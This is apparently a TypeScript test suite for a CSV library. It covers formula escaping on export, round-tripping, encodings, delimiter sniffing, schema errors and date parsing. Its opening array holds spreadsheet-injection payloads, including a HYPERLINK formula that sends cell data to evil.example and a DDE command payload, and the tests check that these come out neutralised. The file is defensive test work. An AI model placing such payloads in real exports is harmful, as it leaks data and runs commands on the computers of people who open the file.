import * as aq from "arquero";
import { assertEquals, assertMatch, assertRejects } from "../assert.ts";
import { CxOptionsError, CxSchemaError, readCsv, writeCsv } from "../../src/mod.ts";
import { toCsv } from "../../src/entries/io.ts";
import { CodedColumn, InstantColumn } from "../../src/kernels/columns.ts";

const malicious = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Klick")',
  "+49 30 1234567",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted",
  "harmless, with comma",
];

/** Parses CSV text with Python's csv module: an independent reader. */
async function pythonCsv(text: string): Promise<string[][]> {
  const script = "import csv,sys,json;print(json.dumps(list(csv.reader(sys.stdin, strict=True))))";
  const child = new Deno.Command("python3", {
    args: ["-c", script],
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(text));
  await writer.close();
  const { stdout, success } = await child.output();
  if (!success) throw new Error("python csv reader failed");
  return JSON.parse(new TextDecoder().decode(stdout));
}

Deno.test("writeCsv neutralises formulas: no cell a spreadsheet reads starts with = + - @ tab CR", async () => {
  const table = aq.table({ comment: malicious, n: malicious.map((_, i) => -i) });
  const path = await Deno.makeTempFile({ suffix: ".csv" });
  await writeCsv(table, path);
  const cells = await pythonCsv(await Deno.readTextFile(path));
  assertEquals(cells[0], ["comment", "n"]);
  for (const [i, [comment, n]] of cells.slice(1).entries()) {
    const original = malicious[i];
    const dangerous = /^'*[=+\-@\t\r]/.test(original);
    assertEquals(comment, dangerous ? `'${original}` : original);
    assertEquals(/^[=+\-@\t\r]/.test(comment), false, `cell ${comment} is live`);
    // Numbers are data, not formulas: a negative number stays a number.
    assertEquals(n, String(-i === 0 ? 0 : -i));
  }
});

Deno.test("readCsv(writeCsv(t)) preserves values, types and missing cells", async () => {
  const table = aq.table({
    id: ["a", "b", "c", "d", "e", "f", "g", "h"],
    comment: [...malicious.slice(0, 7), null],
    text: ['say "hi"', "line1\nline2", " padded ", "ümlaut €", "", null, "x;y", "007"],
    amount: [1.5, -2, 0, 1e21, 1234567.891, null, -0.001, 42],
    when: [
      new Date("2024-01-05T00:00:00Z"),
      new Date("2024-03-31T01:30:00.250Z"),
      null,
      new Date("1999-12-31T23:59:59Z"),
      new Date("2024-02-29T00:00:00Z"),
      new Date("2024-07-01T12:00:00Z"),
      new Date("2030-01-01T00:00:00Z"),
      new Date("2024-10-27T01:00:00Z"),
    ],
  });
  const back = (await readCsv(toCsv(table))).table;
  // An empty string and a missing value are the same thing in CSV: both come back missing.
  const expected = (table.objects() as Record<string, unknown>[])
    .map((r) => ({ ...r, text: r.text === "" ? null : r.text }));
  assertEquals(back.objects(), expected);

  const german = await readCsv(toCsv(table, { delimiter: ";", decimal: "," }));
  assertEquals(german.summary.decimal, ",");
  assertEquals(german.table.objects(), expected);
});

Deno.test("encodings: UTF-8 with and without BOM and Windows-1252 read the same", async () => {
  const text = "customer_id;date;type\nK1;01.03.2024;Grüße\n";
  const utf8 = new TextEncoder().encode(text);
  const bom = new Uint8Array([0xef, 0xbb, 0xbf, ...utf8]);
  // "Grüße" in Windows-1252: ü = 0xFC, ß = 0xDF.
  const cp1252 = new Uint8Array(
    [...text].flatMap((ch) => ch === "ü" ? [0xfc] : ch === "ß" ? [0xdf] : [ch.charCodeAt(0)]),
  );
  const results = await Promise.all(
    [utf8, bom, cp1252].map((bytes) => readCsv(bytes, { schema: "events" })),
  );
  for (const r of results) {
    assertEquals(r.table.columnNames(), ["customer_id", "date", "type"]);
    assertEquals(r.table.get("type", 0), "Grüße");
    assertEquals(r.table.get("date", 0), new Date("2024-03-01T00:00:00Z"));
  }
  assertEquals(results.map((r) => r.summary.encoding), ["utf-8", "utf-8", "windows-1252"]);
  assertMatch(results[2].summary.warnings[0], /Windows-1252/);
  await assertRejects(() => readCsv(cp1252, { encoding: "utf-8" }), CxOptionsError);
});

Deno.test("delimiter sniffing: comma, semicolon, tab, pipe; quoted delimiters don't fool it", async () => {
  for (const d of [",", ";", "\t", "|"]) {
    const other = d === "," ? ";" : ",";
    const text = `customer_id${d}date${d}type\n"K${other}1"${d}2024-01-02${d}order\n`;
    const { table, summary } = await readCsv(text, { schema: "events" });
    assertEquals(summary.delimiter, d);
    assertEquals(table.get("customer_id", 0), `K${other}1`);
  }
});

Deno.test("rows with surplus fields are rejected, not truncated", async () => {
  const { table, rejects } = await readCsv(
    "customer_id,date,revenue\nK1,2024-01-02,1,5\nK2,2024-01-03,2\n",
    {
      schema: "events",
    },
  );
  assertEquals(table.array("customer_id"), ["K2"]);
  assertEquals(rejects.get("row", 0), 2);
  assertMatch(rejects.get("reason", 0) as string, /4 fields but the header has 3/);
});

Deno.test("schema problems name the column and the fix", async () => {
  const missing = await assertRejects(
    () => readCsv("id,Datum\nr1,2024-01-01\n", { schema: "responses" }),
    CxSchemaError,
  );
  assertMatch(missing.message, /"response_id", "date" are missing/);
  assertMatch(missing.message, /Columns present: id, Datum/);
  assertMatch(
    missing.message,
    /mapping: \{ response_id: "<your column>", date: "<your column>" \}/,
  );

  const wrongMap = await assertRejects(
    () => readCsv("id,Datum\nr1,2024-01-01\n", { mapping: { date: "Date" } }),
    CxSchemaError,
  );
  assertMatch(wrongMap.message, /mapping\.date names column "Date", which is not in the data/);

  const twice = await assertRejects(() => readCsv("a,b,a\n1,2,3\n"), CxSchemaError);
  assertMatch(twice.message, /"a" more than once/);
});

Deno.test("bad options throw CxOptionsError naming the option", async () => {
  const csv = "customer_id,date\nK1,2024-01-01\n";
  for (
    const [options, pattern] of [
      [{ delimiter: ";;" }, /"delimiter"/],
      [{ decimal: ":" as "," }, /"decimal"/],
      [{ timeZone: "Mars/Olympus" }, /"timeZone".*Europe\/Berlin/],
      [{ dateFormat: "YY" as "auto" }, /"dateFormat"/],
      [{ schema: "orders" as "events" }, /"schema"/],
    ] as const
  ) {
    const error = await assertRejects(() => readCsv(csv, options), CxOptionsError);
    assertMatch(error.message, pattern);
  }
  const notFound = await assertRejects(() => readCsv("no/such/file.csv"), CxOptionsError);
  assertMatch(notFound.message, /File not found: no\/such\/file\.csv/);
});

Deno.test("extra columns are typed: numbers, dates, and ids with leading zeros stay text", async () => {
  const { table, summary } = await readCsv(
    'customer_id,date,zip,score,seen,note\nK1,2024-01-02,01067,"1,234.5",2024-02-01,a\nK2,2024-01-03,80331,7,,1\n',
    { schema: "events" },
  );
  assertEquals(summary.extraColumns, ["zip", "score", "seen", "note"]);
  assertEquals(table.array("zip"), ["01067", "80331"]);
  assertEquals(table.array("score"), [1234.5, 7]);
  assertEquals(table.array("seen"), [new Date("2024-02-01T00:00:00Z"), null]);
  assertEquals(table.array("note"), ["a", "1"]);
});

Deno.test("slash dates: day/month order detected per column, ambiguity warned", async () => {
  const eu = await readCsv("customer_id,date\nK1,03/04/2024\nK2,25/04/2024\n", {
    schema: "events",
  });
  assertEquals(eu.table.array("date"), [
    new Date("2024-04-03T00:00:00Z"),
    new Date("2024-04-25T00:00:00Z"),
  ]);
  const us = await readCsv("customer_id,date\nK1,03/04/2024\nK2,04/25/2024\n", {
    schema: "events",
  });
  assertEquals(us.table.get("date", 0), new Date("2024-03-04T00:00:00Z"));
  const ambiguous = await readCsv("customer_id,date\nK1,03/04/2024\n", { schema: "events" });
  assertMatch(ambiguous.summary.warnings[0], /ambiguous.*MM\/DD\/YYYY/);
  const forced = await readCsv("customer_id,date\nK1,03/04/2024\n", {
    schema: "events",
    dateFormat: "MM/DD/YYYY",
  });
  assertEquals(forced.table.get("date", 0), new Date("2024-03-04T00:00:00Z"));
});

Deno.test("readCsv returns compact columns, the same from a path, a URL, text and bytes", async () => {
  const text = "response_id;date;nps_score;channel\r\nr1;05.01.2024;9;chat\r\nr2;06.01.2024;7;\r\n";
  const path = await Deno.makeTempFile({ suffix: ".csv" });
  try {
    await Deno.writeTextFile(path, text);
    const results = await Promise.all(
      [path, new URL(`file://${path}`), text, new TextEncoder().encode(text)].map((s) =>
        readCsv(s, { schema: "responses" })
      ),
    );
    for (const { table } of results) {
      assertEquals(table.column("channel") instanceof CodedColumn, true);
      assertEquals(table.column("date") instanceof InstantColumn, true);
      assertEquals(table.objects(), [
        {
          response_id: "r1",
          date: new Date("2024-01-05T00:00:00Z"),
          nps_score: 9,
          channel: "chat",
        },
        { response_id: "r2", date: new Date("2024-01-06T00:00:00Z"), nps_score: 7, channel: null },
      ]);
    }
    assertEquals(results.map((r) => r.summary.source), [path, path, "text", "bytes"]);
  } finally {
    await Deno.remove(path);
  }
});
